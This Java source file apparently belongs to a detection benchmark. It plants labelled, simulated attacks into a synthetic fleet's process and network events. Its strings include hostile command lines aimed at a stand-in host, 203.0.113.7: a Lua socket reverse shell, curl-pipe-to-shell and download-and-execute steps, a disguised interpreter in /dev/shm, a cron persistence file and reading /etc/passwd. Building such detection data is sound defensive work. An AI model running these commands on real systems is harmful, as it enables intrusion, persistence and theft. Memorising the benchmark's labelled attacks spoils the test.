package perilune.bench.fleet;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;
import java.util.SplittableRandom;

/**
 * Plants attacks: a quarter of them in the first half of the time, the rest in the second.
 *
 * <p>Half of the kinds have the shape of something that the fleet does every day: the same script,
 * account, parent or server, that now does one thing more. Owned by one thread.
 */
final class Attacks {

  private final SplittableRandom random;
  private final int[] days;
  private int planted;

  Attacks(long seed, int count, int lastDay, int hosts) {
    random = new SplittableRandom(seed * 7_919 + hosts);
    days = new int[count];
    int half = lastDay / 2;
    for (int i = 0; i < count; i++) {
      boolean early = i % 4 == 3;
      days[i] =
          early
              ? 2 + random.nextInt(Math.max(1, half - 1))
              : half + 1 + random.nextInt(Math.max(1, lastDay - half));
    }
  }

  /** Plants what is due on a day, and gives a label, as JSON, for each. */
  List<String> plant(int number, List<Host> hosts, Site site, Day day) {
    var labels = new ArrayList<String>();
    for (int i = 0; i < days.length; i++) {
      if (days[i] == number) {
        labels.add(one(i, number, hosts, new Scene(site, day)));
      }
    }
    return labels;
  }

  private record Scene(Site site, Day day) {}

  /** What one attack started, in order; its label names all of it. */
  private static final class Deed {
    final Host host;
    final Scene scene;
    final Set<String> entities = new LinkedHashSet<>();
    long time;

    Deed(Host host, Scene scene, long time) {
      this.host = host;
      this.scene = scene;
      this.time = time;
    }

    Proc start(Proc parent, Proc.User user, String path, String... args) {
      time += 700;
      Proc proc = scene.day().start(host, time, parent, user, path, args);
      entities.add(proc.entity());
      return proc;
    }

    void connect(Proc proc, String address, int port) {
      time += 300;
      scene.day().connect(host, time, proc, address, port);
    }

    void create(Proc proc, String path) {
      time += 300;
      scene.day().create(host, time, proc, path);
    }
  }

  private String one(int index, int number, List<Host> hosts, Scene scene) {
    List<String> kinds = KINDS;
    String kind = kinds.get(index % kinds.size());
    String role = kind.substring(0, kind.indexOf(' '));
    List<Host> able =
        hosts.stream().filter(host -> host.role.equals(role) && host.firstDay <= number).toList();
    Host host = able.get(random.nextInt(able.size()));
    var deed = new Deed(host, scene, 30_000_000 + random.nextLong(40_000_000));
    long from = deed.time;
    act(kind, deed);
    planted++;
    return "{\"attack\":\"a%02d\",\"kind\":\"%s\",\"host\":\"%s\",\"day\":%d,\"from\":\"%s\",\"to\":\"%s\",\"entities\":[%s]}"
        .formatted(
            planted,
            kind,
            host.name,
            number,
            time(number, from),
            time(number, deed.time),
            String.join(",", deed.entities.stream().map(id -> '"' + id + '"').toList()));
  }

  private static String time(int day, long millis) {
    return Day.FIRST.plusSeconds((day - 1) * 86_400L).plusMillis(millis).toString();
  }

  private static final List<String> KINDS =
      List.of(
          "web reverse shell by code on the command line",
          "web script that a download dropped, started by the server",
          "web the server itself opens a shell",
          "app the backup script talks to the outside and opens a shell",
          "cache the store opens a shell out of its sandbox",
          "dev an editor without a screen runs commands",
          "sec a scan with a script from a temporary folder runs commands",
          "web the interpreter under another name",
          "ci a rock of the build fetches and runs a program",
          "web the metrics script runs commands as its account",
          "dev code from a pipe that runs commands",
          "mac code on the command line that runs commands",
          "game the server's interpreter runs a dropped script",
          "app code on the command line from a cron job",
          "build a script in a hidden file writes an autostart",
          "mon the plugin's account runs a script from shared memory",
          "mac an untrusted interpreter from a temporary folder",
          "web bytecode from a temporary folder talks and runs",
          "cache code on the command line as the store's account",
          "dev a dropped script runs as the person does every day");

  private void act(String kind, Deed deed) {
    Host host = deed.host;
    Site site = deed.scene.site();
    String lua = site.lua();
    switch (kind.substring(kind.indexOf(' ') + 1)) {
      case "reverse shell by code on the command line" -> {
        Proc shell =
            deed.start(
                daemon(host, "/usr/sbin/php-fpm8.2"),
                site.account("www-data"),
                "/bin/sh",
                "sh",
                "-c",
                "lua");
        reverse(deed, shell, lua, site.account("www-data"));
      }
      case "script that a download dropped, started by the server" -> {
        Proc.User user = site.account("www-data");
        Proc shell =
            deed.start(daemon(host, "/usr/sbin/nginx"), user, "/bin/sh", "sh", "-c", "curl");
        dropped(deed, shell, user, "/tmp/.cache-" + random.nextInt(99) + ".lua");
      }
      case "the server itself opens a shell" -> {
        Proc.User user = site.account("www-data");
        Proc shell =
            deed.start(
                daemon(host, "/usr/local/openresty/nginx/sbin/nginx"),
                user,
                "/bin/sh",
                "sh",
                "-c",
                "id; curl http://203.0.113.7/x|sh");
        deed.start(shell, user, "/usr/bin/id", "id");
        connect(deed, deed.start(shell, user, "/usr/bin/curl", "curl", "http://203.0.113.7/x"));
      }
      case "the backup script talks to the outside and opens a shell" -> {
        String script = site.path("/opt/backup") + "-" + site.version("backup") + "/rotate.lua";
        everyday(deed, "backup", script);
      }
      case "the metrics script runs commands as its account" -> {
        String script = site.path("/opt/metrics") + "/" + site.version("metrics") + "/collect.lua";
        everyday(deed, "metrics", script);
      }
      case "the store opens a shell out of its sandbox" -> {
        Proc.User user = site.account("redis");
        Proc shell =
            deed.start(daemon(host, "/usr/bin/redis-server"), user, "/bin/sh", "sh", "-c", "id");
        deed.start(shell, user, "/usr/bin/id", "id");
      }
      case "an editor without a screen runs commands" -> {
        Proc.User user = host.people.getFirst();
        Proc editor =
            deed.start(
                shell(deed, user),
                user,
                "/usr/bin/nvim",
                "nvim",
                "--headless",
                "-c",
                ":lua os.execute('id')",
                "-c",
                ":q");
        Proc shell = deed.start(editor, user, "/bin/sh", "sh", "-c", "id");
        deed.start(shell, user, "/usr/bin/id", "id");
      }
      case "a scan with a script from a temporary folder runs commands" -> {
        Proc.User user = host.people.getFirst();
        Proc scan =
            deed.start(
                shell(deed, user),
                user,
                "/usr/bin/nmap",
                "nmap",
                "--script=/tmp/x.nse",
                "127.0.0.1");
        Proc shell = deed.start(scan, user, "/bin/sh", "sh", "-c", "whoami");
        deed.start(shell, user, "/usr/bin/whoami", "whoami");
      }
      case "the interpreter under another name" -> {
        Proc.User user = site.account("www-data");
        Proc shell = deed.start(daemon(host, "/usr/sbin/nginx"), user, "/bin/sh", "sh", "-c", "cp");
        Proc copy = deed.start(shell, user, "/bin/cp", "cp", lua, "/dev/shm/.kworker");
        deed.create(copy, "/dev/shm/.kworker");
        reverse(deed, shell, "/dev/shm/.kworker", user);
      }
      default -> more(kind.substring(kind.indexOf(' ') + 1), deed);
    }
  }

  private void more(String kind, Deed deed) {
    Host host = deed.host;
    Site site = deed.scene.site();
    String lua = site.lua();
    switch (kind) {
      case "a rock of the build fetches and runs a program" -> {
        Proc.User user = site.account("gitlab-runner");
        Proc shell = deed.start(daemon(host, site.runner()), user, "/bin/bash", "bash", "-e");
        Proc rocks = deed.start(shell, user, lua, "lua", "/usr/bin/luarocks", "install", "lpegg");
        Proc build =
            deed.start(
                rocks,
                user,
                "/bin/sh",
                "sh",
                "-c",
                "curl -so /tmp/.b http://203.0.113.7/b; chmod +x /tmp/.b; /tmp/.b");
        Proc curl =
            deed.start(
                build, user, "/usr/bin/curl", "curl", "-so", "/tmp/.b", "http://203.0.113.7/b");
        connect(deed, curl);
        deed.create(curl, "/tmp/.b");
        connect(deed, deed.start(build, user, "/tmp/.b", "/tmp/.b"));
      }
      case "code from a pipe that runs commands" -> {
        Proc.User user = host.people.getFirst();
        Proc shell = shell(deed, user);
        connect(deed, deed.start(shell, user, "/usr/bin/curl", "curl", "http://203.0.113.7/s.lua"));
        Proc run = deed.start(shell, user, lua, "lua", "-");
        commands(deed, run, user);
      }
      case "code on the command line that runs commands" -> {
        Proc.User user = host.people.getFirst();
        Proc shell =
            deed.start(
                daemon(host, "/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal"),
                user,
                "/bin/zsh",
                "-zsh");
        String brew = "/opt/homebrew/Cellar/lua/" + site.version("brew-lua") + "/bin/lua";
        commands(
            deed,
            deed.start(shell, user, brew, "lua", "-e", "os.execute('id; curl http://203.0.113.7')"),
            user);
      }
      case "the server's interpreter runs a dropped script" -> {
        Proc.User user = site.account("game");
        String base = site.path("/opt/gameserver") + "-" + site.version("game");
        Proc shell = deed.start(daemon(host, "/usr/sbin/sshd"), user, "/bin/sh", "sh");
        Proc curl =
            deed.start(
                shell, user, "/usr/bin/curl", "curl", "-o", "/tmp/.m.lua", "http://203.0.113.7/m");
        deed.create(curl, "/tmp/.m.lua");
        commands(
            deed, deed.start(shell, user, base + "/bin/luajit", "luajit", "/tmp/.m.lua"), user);
      }
      case "code on the command line from a cron job" -> {
        Proc.User user = site.account("backup");
        Proc shell = deed.start(daemon(host, "/usr/sbin/cron"), user, "/bin/sh", "sh", "-c", "lua");
        reverse(deed, shell, lua, user);
      }
      case "a script in a hidden file writes an autostart" -> {
        Proc.User user = site.account("mock");
        Proc shell = deed.start(daemon(host, "/usr/sbin/sshd"), user, "/bin/bash", "bash");
        Proc run = deed.start(shell, user, lua, "lua", "/srv/build/.u.lua");
        deed.create(run, "/etc/cron.d/update");
        commands(deed, run, user);
      }
      case "the plugin's account runs a script from shared memory" -> {
        Proc.User user = site.account("nagios");
        dropped(deed, daemon(host, "/usr/sbin/nrpe"), user, "/dev/shm/c.lua");
      }
      case "an untrusted interpreter from a temporary folder" -> {
        Proc.User user = host.people.getFirst();
        Proc shell =
            deed.start(
                daemon(host, "/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal"),
                user,
                "/bin/zsh",
                "-zsh");
        Proc curl =
            deed.start(
                shell,
                user,
                "/usr/bin/curl",
                "curl",
                "-o",
                "/private/tmp/luajit",
                "http://203.0.113.7/l");
        deed.create(curl, "/private/tmp/luajit");
        reverse(deed, shell, "/private/tmp/luajit", user);
      }
      case "bytecode from a temporary folder talks and runs" -> {
        Proc.User user = site.account("www-data");
        Proc shell = deed.start(daemon(host, "/usr/sbin/nginx"), user, "/bin/sh", "sh", "-c", "x");
        dropped(deed, shell, user, "/var/tmp/upd.bin");
      }
      case "code on the command line as the store's account" -> {
        Proc.User user = site.account("redis");
        Proc shell = deed.start(daemon(host, "/usr/sbin/cron"), user, "/bin/sh", "sh", "-c", "lua");
        reverse(deed, shell, lua, user);
      }
      default -> {
        Proc.User user = host.people.getFirst();
        dropped(deed, shell(deed, user), user, "/tmp/.install.lua");
      }
    }
  }

  private static Proc daemon(Host host, String path) {
    return new Proc(
        host.name + "-" + path.hashCode(),
        700 + Math.floorMod(path.hashCode(), 200),
        path,
        List.of(path),
        Proc.User.ROOT,
        List.of(host.name + "-1"),
        path.endsWith("sshd") ? "sshd" : path.endsWith("cron") ? "" : "init");
  }

  private static Proc shell(Deed deed, Proc.User user) {
    return deed.start(daemon(deed.host, "/usr/sbin/sshd"), user, "/bin/bash", "-bash");
  }

  private static void connect(Deed deed, Proc proc) {
    deed.connect(proc, "203.0.113.7", 443);
  }

  private static void reverse(Deed deed, Proc parent, String lua, Proc.User user) {
    Proc run =
        deed.start(
            parent,
            user,
            lua,
            "lua",
            "-e",
            "local s=require('socket') c=s.tcp() c:connect('203.0.113.7',4444) while true do"
                + " io.popen(c:receive()) end");
    deed.connect(run, "203.0.113.7", 4444);
    commands(deed, run, user);
  }

  private static void dropped(Deed deed, Proc parent, Proc.User user, String script) {
    Proc curl =
        deed.start(parent, user, "/usr/bin/curl", "curl", "-so", script, "http://203.0.113.7/p");
    connect(deed, curl);
    deed.create(curl, script);
    Proc run = deed.start(parent, user, deed.scene.site().lua(), "lua", script);
    deed.connect(run, "203.0.113.7", 8443);
    commands(deed, run, user);
  }

  private static void commands(Deed deed, Proc run, Proc.User user) {
    Proc shell = deed.start(run, user, "/bin/sh", "sh", "-c", "id; uname -a");
    deed.start(shell, user, "/usr/bin/id", "id");
    deed.start(shell, user, "/usr/bin/uname", "uname", "-a");
  }

  /** The script, account and parent of every day, doing what it never did. */
  private static void everyday(Deed deed, String account, String script) {
    Proc.User user = deed.scene.site().account(account);
    String lua = deed.scene.site().lua();
    Proc run = deed.start(daemon(deed.host, "/usr/sbin/cron"), user, lua, "lua", script);
    deed.connect(run, "203.0.113.7", 443);
    Proc shell = deed.start(run, user, "/bin/sh", "sh", "-i");
    deed.start(shell, user, "/usr/bin/whoami", "whoami");
    connect(
        deed,
        deed.start(shell, user, "/usr/bin/curl", "curl", "-so", "/tmp/.p", "http://203.0.113.7/p"));
    deed.start(shell, user, "/bin/cat", "cat", "/etc/passwd");
  }
}
